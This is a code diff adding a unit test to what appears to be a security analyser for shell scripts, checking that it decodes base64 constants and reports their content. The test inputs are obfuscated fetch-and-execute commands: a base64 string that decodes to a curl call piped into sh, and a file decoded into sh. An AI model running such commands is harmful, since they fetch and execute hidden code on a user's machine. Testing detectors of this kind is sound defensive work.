@@ -77,3 +77,10 @@ def test_asking_is_not_doing(source, unexpected):
 )
 def test_powershell_means(source, expected):
     assert expected <= signals(source, Language.POWERSHELL)
+
+
+def test_what_a_constant_decodes_to_is_the_target():
+    found = observe("echo Y3VybCBodHRwczovL2EuZXhhbXBsZS94 | base64 -d | sh", Language.SHELL).signals
+    assert [signal.target for signal in found if signal.id.value == "decode.text"] == ["curl https://a.example/x"]
+    found = observe("cat x | base64 -d | sh", Language.SHELL).signals
+    assert [signal.target for signal in found if signal.id.value == "decode.text"] == [""]
